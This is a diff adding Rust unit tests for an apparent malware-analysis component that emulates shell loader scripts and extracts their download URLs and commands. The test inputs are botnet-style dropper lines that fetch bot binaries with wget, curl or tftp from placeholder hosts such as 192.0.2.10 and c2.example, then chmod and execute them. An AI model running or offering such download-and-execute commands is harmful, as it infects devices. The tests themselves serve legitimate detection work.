@@ -1,0 +1,73 @@
+//! Scripts as loaders write them; addresses are for documentation only.
+
+use super::run;
+use crate::limits::Limits;
+use crate::observables::Finds;
+use ukai_model::{ObservableKind, Timestamp};
+
+struct Ran {
+    urls: Vec<String>,
+    commands: Vec<String>,
+    notes: Vec<String>,
+}
+
+fn ran(script: &str) -> Ran {
+    let limits = Limits::default();
+    let mut finds = Finds::new(limits.observables);
+    let report = run(script.as_bytes(), Timestamp::from_secs(1_700_000_000), &limits, &mut finds);
+    let urls = finds.list.iter().filter(|it| it.observable.kind == ObservableKind::Url);
+    assert!(finds.list.iter().all(|it| it.method == "script" && it.offset == 0));
+    Ran {
+        urls: urls.map(|it| it.observable.value.clone()).collect(),
+        commands: report.commands.iter().map(ToString::to_string).collect(),
+        notes: report.notes,
+    }
+}
+
+#[test]
+fn a_loop_over_architectures_gives_every_url() {
+    let ran = ran(
+        "#!/bin/sh\nH=192.0.2.10\nfor a in mips mpsl arm7 x86; do\n  cd /tmp; wget http://$H/bins/bot.$a -O x; chmod 777 x; ./x $a; rm -f x\ndone\n",
+    );
+    let expected =
+        ["mips", "mpsl", "arm7", "x86"].map(|a| format!("http://192.0.2.10/bins/bot.{a}"));
+    assert_eq!(ran.urls, expected);
+    assert!(ran.commands.iter().any(|line| line.contains("wget")), "{:?}", ran.commands);
+}
+
+#[test]
+fn other_ways_are_met_when_the_first_fails() {
+    let ran =
+        ran("wget http://192.0.2.10/a || curl -O http://192.0.2.11/b || tftp -g -r c 192.0.2.12\n");
+    for expected in ["http://192.0.2.10/a", "http://192.0.2.11/b"] {
+        assert!(ran.urls.iter().any(|url| url == expected), "{expected} not in {:?}", ran.urls);
+    }
+    assert!(ran.urls.iter().any(|url| url.starts_with("tftp://192.0.2.12")), "{:?}", ran.urls);
+}
+
+#[test]
+fn every_device_is_tried() {
+    let ran = ran("wget http://c2.example/$(uname -m)\n");
+    assert!(ran.urls.len() >= 2, "{:?}", ran.urls);
+}
+
+#[test]
+fn sleeping_and_endless_scripts_end() {
+    let sleeping = ran("sleep 3600; wget http://192.0.2.10/late\n");
+    assert_eq!(sleeping.urls, ["http://192.0.2.10/late"]);
+    let endless = ran("while true; do wget http://192.0.2.10/again; sleep 60; done\n");
+    assert_eq!(endless.urls, ["http://192.0.2.10/again"]);
+    assert!(!endless.notes.is_empty());
+}
+
+#[test]
+fn carriage_returns_do_not_spoil_urls() {
+    assert_eq!(ran("wget http://192.0.2.10/a\r\nwget http://192.0.2.10/b\r\n").urls.len(), 2);
+}
+
+#[test]
+fn files_that_a_script_makes_are_read() {
+    let ran = ran("echo 'curl http://192.0.2.10/inner.sh -o y; sleep 1; echo done' > /tmp/x.sh\n");
+    assert_eq!(ran.urls, ["http://192.0.2.10/inner.sh"]);
+    assert!(ran.notes.iter().any(|note| note.contains("/tmp/x.sh")), "{:?}", ran.notes);
+}
